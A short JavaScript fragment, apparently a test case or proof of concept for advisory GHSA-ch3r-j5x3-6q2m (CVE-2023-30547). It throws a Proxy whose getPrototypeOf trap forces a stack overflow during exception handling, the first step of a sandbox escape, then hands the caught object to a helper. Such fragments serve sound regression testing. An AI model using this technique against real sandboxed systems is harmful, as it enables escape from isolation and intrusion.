// GHSA-ch3r-j5x3-6q2m CVE-2023-30547
// A getPrototypeOf trap raises inside the handler of exceptions.
const error = {};
const proxy = new Proxy(error, { getPrototypeOf() { (function stack() { new Error().stack; stack(); })(); } });
try { throw proxy; } catch (e) { await useObject(e); }
return found;
